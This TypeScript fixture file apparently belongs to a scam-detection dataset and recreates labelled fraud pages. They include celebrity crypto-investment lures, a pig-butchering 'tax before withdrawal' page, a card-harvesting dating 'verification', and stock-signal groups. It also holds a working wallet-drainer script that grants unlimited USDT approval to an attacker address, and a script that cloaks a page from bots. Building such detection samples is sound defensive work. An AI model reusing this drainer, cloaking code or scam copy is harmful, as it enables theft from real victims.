import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc, gtag, gtagRoute, pixel, pixelRoute } from '../parts/za-kit.js';

export const entries: Entry[] = [
  {
  id: 'za-scam-celeb-de-jauch-bitcoin',
  label: 'scam',
  kind: 'invest-celeb',
  url: 'https://nachrichten-aktuell24.de/wirtschaft/jauch-skandal.php?utm_source=fb&utm_campaign=de_ads_17',
  body: doc({
    title: 'Skandal bei Wer wird Millionär: Günther Jauch verrät, wie er sein Vermögen vermehrt',
    lang: 'de',
    css: `body{font-family:Arial,sans-serif;margin:0;background:#f4f4f4}header{background:#0c3b73;color:#fff;padding:10px 18px;font-size:24px;font-weight:bold}article{background:#fff;max-width:760px;margin:0 auto;padding:20px}h1{font-size:28px}.box{border:3px solid #e3a400;padding:16px;background:#fffbe8}.box input{width:100%;padding:10px;margin:5px 0;box-sizing:border-box}.box button{width:100%;padding:14px;background:#e3a400;border:0;font-weight:bold;font-size:17px}footer{font-size:11px;color:#777;text-align:center;padding:20px}`,
    body: `<header>Nachrichten Aktuell 24</header><article>
<h1>Skandal bei „Wer wird Millionär": Günther Jauch verrät live im TV, wie er sein Vermögen vermehrt</h1>
<p><i>Die Sendung wurde gestoppt – die Aufzeichnung wurde auf Druck der Banken gelöscht.</i></p>
<p>Günther Jauch sprach gestern offen über seine neue Investition: eine Bitcoin-Plattform namens <b>Bitcoin Aussie System</b>, die mit künstlicher Intelligenz arbeitet. „Jeder Deutsche sollte das kennen, bevor die Banken es verbieten", sagte der Moderator.</p>
<p>Laut Jauch reichen <b>250 €</b> als Startkapital. Die Software handelt automatisch und erzielt angeblich bis zu 2.400 € am Tag. Unser Redakteur hat es getestet: nach 5 Tagen hatte er 6.183,40 € auf dem Konto.</p>
<div class="box"><h2>Jetzt kostenlos registrieren</h2><p>Nur noch <b>wenige Plätze</b> für Deutschland verfügbar!</p>
<form method="post" action="/reg/submit"><input name="vorname" placeholder="Vorname"><input name="nachname" placeholder="Nachname"><input name="email" placeholder="E-Mail"><input name="telefon" placeholder="+49 Telefonnummer"><button>JETZT STARTEN »</button></form>
<p style="font-size:12px">Ihr persönlicher Kontomanager meldet sich telefonisch zur Aktivierung.</p></div>
<p>Update 14:32 Uhr: Die Nachfrage ist so hoch, dass die Registrierung morgen geschlossen wird.</p></article>
<footer>Impressum · Datenschutz · Dies ist eine Anzeige.</footer>`,
  }),
  routes: { 'nachrichten-aktuell24.de/reg/submit': redirectRoute(302, 'https://nachrichten-aktuell24.de/danke.html') },
},
  {
  id: 'za-scam-signal-group-banknifty-in',
  label: 'scam',
  kind: 'signal-group',
  url: 'https://nifty-profit-club.in/join',
  body: doc({
    title: 'Nifty Profit Club — SEBI Registered* Intraday Calls | 95% Accuracy',
    css: `body{margin:0;font-family:Poppins,Arial,sans-serif;background:#0b1020;color:#eef}.wrap{max-width:640px;margin:auto;padding:24px}h1{color:#ffcc00}.stat{display:flex;gap:10px}.stat div{flex:1;background:#141b34;padding:12px;border-radius:8px;text-align:center}.plan{background:#141b34;border:1px solid #2a3a70;border-radius:10px;padding:14px;margin:10px 0}.btn{display:block;background:#25d366;color:#031;text-align:center;padding:14px;border-radius:30px;font-weight:bold;text-decoration:none;margin:14px 0}.t{background:#1c2547;padding:10px;border-radius:8px;margin:6px 0;font-size:14px}small{color:#99a}`,
    body: `<div class="wrap"><h1>📈 Bank Nifty & Nifty Option Calls — Daily Jackpot</h1>
<p>Join 48,000+ traders earning ₹5,000 – ₹50,000 <b>daily</b> with our expert calls. Sure-shot entry, target & stoploss on Telegram/WhatsApp.</p>
<div class="stat"><div><b>95%</b><br>Accuracy</div><div><b>₹3.2 Cr</b><br>Profit this month</div><div><b>100%</b><br>Refund if loss*</div></div>
<div class="plan"><b>FREE DEMO (3 days)</b><br>Get 2 calls/day free. Pay only after profit.</div>
<div class="plan"><b>JACKPOT PLAN ₹9,999</b> <s>₹24,999</s><br>Operator-level tips, Hero-Zero calls on expiry, personal relationship manager.</div>
<div class="plan"><b>PROFIT SHARING</b><br>Give us your Zerodha/Upstox login — our experts trade for you. 30% profit share only.</div>
<a class="btn" href="https://wa.me/919876512340?text=I%20want%20free%20demo">💬 JOIN FREE WHATSAPP GROUP</a>
<a class="btn" style="background:#2aa1da;color:#fff" href="tg://resolve?domain=niftyprofitclub_vip">✈️ JOIN TELEGRAM VIP</a>
<h3>Today's profit screenshots</h3><div class="t">✅ BANKNIFTY 48200 CE — Buy 120, Target 260 hit 🔥 +₹42,000 per lot</div><div class="t">✅ NIFTY 22150 PE — 85 → 171 ✅✅ Jackpot</div><div class="t">Rahul from Pune: "Sir I recovered all my loss in 2 days, thank you 🙏"</div>
<p>Pay via UPI: <b>niftyprofitclub@ybl</b> and send screenshot to get VIP link.</p>
<small>*SEBI Reg. No. INH000012345. Investment in securities market are subject to market risks. Guaranteed returns.</small></div>`,
  }),
},
  {
  id: 'za-scam-pig-butchering-exchange-withdraw-tax',
  label: 'scam',
  kind: 'pig-butchering',
  url: 'https://app.vexora-global.com/#/assets/withdraw',
  body: doc({
    title: 'Vexora Global',
    css: `body{margin:0;background:#0b0e11;color:#eaecef;font-family:-apple-system,Roboto,Arial}.top{display:flex;justify-content:space-between;padding:12px 16px;background:#181a20}.top b{color:#f0b90b}#app{max-width:520px;margin:auto;padding:16px}.card{background:#1e2329;border-radius:10px;padding:16px;margin:12px 0}.row{display:flex;justify-content:space-between;padding:6px 0;border-bottom:1px solid #2b3139}.warn{background:#3a2a05;border:1px solid #f0b90b;color:#f0b90b;padding:12px;border-radius:8px}button{width:100%;background:#f0b90b;border:0;padding:12px;border-radius:6px;font-weight:600}.chat{position:fixed;right:16px;bottom:16px;background:#f0b90b;color:#000;border-radius:24px;padding:10px 16px}`,
    body: `<div class="top"><b>Vexora Global</b><span>UID 88317204 · VIP2</span></div><div id="app">Loading…</div><div class="chat">💬 Online Customer Service</div>
<script src="/static/js/app.7f31c2.js"></script>`,
  }),
  routes: {
    'app.vexora-global.com/static/js/app.7f31c2.js': jsRoute(`(function(){
fetch('/api/v1/user/assets').then(function(r){return r.json()}).then(function(d){
var h='<div class="card"><div style="color:#848e9c">Total assets (USDT)</div><div style="font-size:30px">'+d.total+'</div><div style="color:#0ecb81">AI quant profit: +'+d.profit+'</div></div>';
h+='<div class="card"><h3>Withdraw USDT (TRC20)</h3><div class="row"><span>Available</span><span>'+d.total+'</span></div><div class="row"><span>Status</span><span style="color:#f6465d">Frozen – tax review</span></div>';
h+='<div class="warn">According to the regulations of the US Financial Crimes Enforcement Network, your profit of '+d.profit+' USDT is subject to a 20% personal income tax. The tax ('+d.tax+' USDT) must be paid to the platform\\'s designated tax wallet before withdrawal. Tax cannot be deducted from the account balance.</div>';
h+='<p>Designated wallet (TRC20):<br><code>'+d.wallet+'</code></p><p>After payment, upload the transfer screenshot. Funds are released within 24h. Failure to pay within 72 hours will result in a permanent freeze and credit score deduction.</p><button onclick="alert(\\'Please contact online customer service\\')">I have paid the tax</button></div>';
document.getElementById('app').innerHTML=h;});})();`),
    'app.vexora-global.com/api/v1/user/assets': jsonRoute({ total: '286,410.72', profit: '198,003.61', tax: '39,600.72', wallet: 'TQ7nWk3aV9rXbYp2dFh8LmZs4cE1uJ6oRt' }),
  },
},
  {
  id: 'za-drain-liquidity-mining-approval-vi',
  label: 'cryptodrainer',
  kind: 'liquidity-mining',
  url: 'https://defi-thanhkhoan.vip/mining?invite=HN8821',
  body: doc({
    title: 'Khai thác thanh khoản USDT — Nhận lãi mỗi 6 giờ',
    lang: 'vi',
    css: `body{margin:0;background:linear-gradient(#1b1464,#0d0a2c);color:#fff;font-family:Arial}.w{max-width:460px;margin:auto;padding:20px}.c{background:rgba(255,255,255,.08);border-radius:14px;padding:16px;margin:12px 0}table{width:100%;font-size:14px}td{padding:6px}button{width:100%;padding:14px;border:0;border-radius:24px;background:linear-gradient(90deg,#00d2ff,#3a7bd5);color:#fff;font-size:16px}`,
    body: `<div class="w"><h2>💎 Khai thác thanh khoản (Liquidity Mining)</h2><p>Tham gia pool thanh khoản USDT — không cần chuyển tiền ra khỏi ví, lãi tự động gửi mỗi 6 giờ.</p>
<div class="c"><table><tr><th>Số dư USDT</th><th>Lãi/ngày</th></tr><tr><td>100 – 4.999</td><td>1,2%</td></tr><tr><td>5.000 – 19.999</td><td>2,0%</td></tr><tr><td>20.000 – 99.999</td><td>3,5%</td></tr><tr><td>≥ 100.000</td><td>5,0%</td></tr></table></div>
<div class="c">Tổng sản lượng pool: <b>82.641.207 USDT</b><br>Người tham gia: <b>231.507</b><br>Mã mời: <b>HN8821</b> (chị Linh)</div>
<button id="join">Nhận phần thưởng — Tham gia node</button>
<p style="font-size:12px;opacity:.7">Nhấn tham gia để ủy quyền ví nhận phần thưởng. Mọi thắc mắc vui lòng liên hệ CSKH trực tuyến. Lưu ý: không chia sẻ với người ngoài.</p></div>
<script>document.getElementById('join').onclick=async function(){if(!window.ethereum){alert('Vui lòng mở trang trong trình duyệt ví (Trust Wallet / imToken / TokenPocket)');return;}
var a=await ethereum.request({method:'eth_requestAccounts'});
var usdt='0xdAC17F958D2ee523a2206206994597C13D831ec7',spender='000000000000000000000000a4f2c9e81b7d3306bd02c5e5f1a83e9d44c7b1f0';
await ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:usdt,data:'0x095ea7b3'+spender+'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]});
fetch('/api/node/join',{method:'POST',body:JSON.stringify({addr:a[0],invite:'HN8821'})});alert('Tham gia thành công! Lãi sẽ được trả sau 6 giờ.');};</script>`,
  }),
  routes: { 'defi-thanhkhoan.vip/api/node/join': jsonRoute({ code: 0 }) },
},
  {
  id: 'za-scam-romance-dating-safety-verify',
  label: 'scam',
  kind: 'romance',
  url: 'https://datesafe-verification.net/verify?ref=meet_jessica92',
  body: doc({
    title: 'DateSafe™ — Verified Dater ID',
    css: `body{margin:0;font-family:Helvetica,Arial;background:#fdf1f4}.h{background:#e8356f;color:#fff;padding:14px;text-align:center;font-size:22px}.b{max-width:480px;margin:20px auto;background:#fff;border-radius:12px;padding:22px;box-shadow:0 2px 10px #0002}.msg{background:#f2f2f2;border-radius:12px;padding:10px;font-size:14px}input{width:100%;padding:11px;margin:6px 0;border:1px solid #ccc;border-radius:6px;box-sizing:border-box}button{width:100%;background:#e8356f;color:#fff;border:0;padding:13px;border-radius:6px;font-size:16px}.tiny{font-size:10px;color:#888;line-height:1.3}`,
    body: `<div class="h">♥ DateSafe™ Verified</div><div class="b">
<div class="msg"><b>Jessica, 27</b> requested that you complete a <b>Dater Safety Verification</b> before meeting. This protects members from fake profiles and sex offenders.</div>
<h3>Step 2 of 2 — Confirm you are over 18</h3><p>We verify age with a <b>$0.00</b> card check. No charges will be made.</p>
<form method="post" action="/checkout"><input name="name" placeholder="Name on card"><input name="card" placeholder="Card number" autocomplete="cc-number"><input name="exp" placeholder="MM/YY" style="width:48%;display:inline-block"> <input name="cvv" placeholder="CVV" style="width:48%;display:inline-block"><input name="zip" placeholder="ZIP code"><button>Get my verification ID</button></form>
<p>✔ 100% anonymous ✔ Instant safety badge ✔ Trusted by 2M daters</p>
<p class="tiny">By clicking you agree to a 3-day trial of DateSafe Premium and partner sites MatchVault, HookupSecure and AdultMeetID; after trial you will be charged $49.95 / 14 days per membership until cancelled. Billing descriptor may appear as DSV*ONLINESVC.</p></div>`,
  }),
},
  {
  id: 'za-scam-copytrading-elon-es',
  label: 'scam',
  kind: 'invest-celeb',
  url: 'https://inversion-ia-tesla.es/registro/',
  body: doc({
    title: 'Tesla X AI — La plataforma de inversión de Elon Musk ya está en España',
    lang: 'es',
    head: gtag('inversion-ia-tesla.es', 'G-4KQ8Z2PL1M'),
    css: `body{margin:0;font-family:Roboto,Arial;background:#111;color:#fff}.hero{padding:40px 20px;text-align:center;background:radial-gradient(#333,#000)}.hero h1{font-size:34px}.f{max-width:380px;margin:20px auto;background:#fff;color:#111;padding:20px;border-radius:8px}.f input{width:100%;padding:10px;margin:5px 0;box-sizing:border-box}.f button{width:100%;padding:13px;background:#e82127;color:#fff;border:0;font-weight:bold}.t{display:flex;gap:10px;max-width:900px;margin:auto;padding:20px}.t div{flex:1;background:#1d1d1d;padding:14px;border-radius:6px;font-size:14px}`,
    body: `<div class="hero"><h1>Gana hasta 3.000 € semanales con la IA de Elon Musk</h1><p>Invierte solo 250 € y deja que el algoritmo cuántico opere por ti. Sin experiencia. Retiros en 24 h.</p></div>
<div class="f"><h3>Abre tu cuenta GRATIS</h3><form id="lf"><input name="nombre" placeholder="Nombre"><input name="apellido" placeholder="Apellidos"><input name="email" placeholder="Correo electrónico"><input name="tel" placeholder="+34 Teléfono"><button>EMPEZAR A GANAR</button></form><small>Un asesor financiero personal le llamará para configurar su cuenta.</small></div>
<div class="t"><div>"Con 250 € empecé y hoy retiré 11.400 €. Gracias Elon!" — Carmen, Valencia</div><div>"Pagué la hipoteca en 2 meses." — José Luis, Sevilla</div><div>"Mi asesora Lucía es un encanto, me explica todo." — Marta, Bilbao</div></div>
<script>document.getElementById('lf').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.pais='ES';d.offer='teslax';fetch('/api/leads',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(){location.href='/gracias/'});};</script>`,
  }),
  routes: { ...gtagRoute('inversion-ia-tesla.es'), 'inversion-ia-tesla.es/api/leads': jsonRoute({ status: 'ok' }), 'inversion-ia-tesla.es/gracias/': htmlRoute('<!doctype html><html lang="es"><title>Gracias</title><h1>¡Gracias! Su asesor le llamará en breve.</h1></html>') },
},
  {
  id: 'za-scam-line-stock-group-ja',
  label: 'scam',
  kind: 'signal-group',
  url: 'https://trk.adnavi-click.jp/c/88213?cr=fb_0917&fbclid=IwAR2xk9pQ',
  routes: {
    'trk.adnavi-click.jp/c/88213': redirectRoute(302, 'https://kabu-manabu-juku.jp/lp/line01/?cr=fb_0917'),
    'kabu-manabu-juku.jp/lp/line01/': htmlRoute(doc({
      title: '【無料】有名経済アナリストが教える株式投資LINEグループ｜期間限定',
      lang: 'ja',
      css: `body{margin:0;font-family:'Hiragino Kaku Gothic ProN',Meiryo,sans-serif;background:#fff;color:#222}.top{background:#06c755;color:#fff;text-align:center;padding:10px;font-weight:bold}.w{max-width:520px;margin:auto;padding:16px}.big{font-size:24px;color:#d00;font-weight:bold}.v{background:#fff8e1;border:2px solid #f5a623;padding:12px;border-radius:8px;margin:12px 0}.b{display:block;background:#06c755;color:#fff;text-align:center;padding:16px;border-radius:40px;text-decoration:none;font-size:18px;font-weight:bold;margin:16px 0}.r{font-size:13px;border-bottom:1px dashed #ccc;padding:8px 0}small{color:#888}`,
      body: `<div class="top">LINE友だち追加で無料参加</div><div class="w"><p class="big">今月の注目銘柄3つを無料配信中！</p><p>経済評論家として30年、テレビでもおなじみの先生が、いまだけ個人投資家のために<b>LINEグループで無料指導</b>。新NISAで資産を増やしたい方必見です。</p>
<div class="v">✅ 毎日の売買タイミングを配信<br>✅ 先月の推奨銘柄は平均 <b>+186%</b><br>✅ アシスタントが個別に質問対応<br>✅ 参加費・会費 完全無料</div>
<a class="b" href="https://line.me/ti/g2/kabu_manabu_0917?utm_source=invite">LINEで友だち追加する ▶</a>
<p>参加者の声</p><div class="r">「先生の銘柄で200万円の利益が出ました」 60代・男性</div><div class="r">「アシスタントの佐藤さんがとても親切です」 50代・女性</div>
<p><small>※本ページは広告です。募集は先着300名様で締め切ります。残り <b id="n">27</b> 名</small></p></div>
<script>if(navigator.webdriver||/bot|crawl|facebookexternalhit/i.test(navigator.userAgent)){document.body.innerHTML='<div style="padding:40px">株式投資の基礎知識ブログ — 準備中</div>';}</script>`,
    })),
  },
},
];
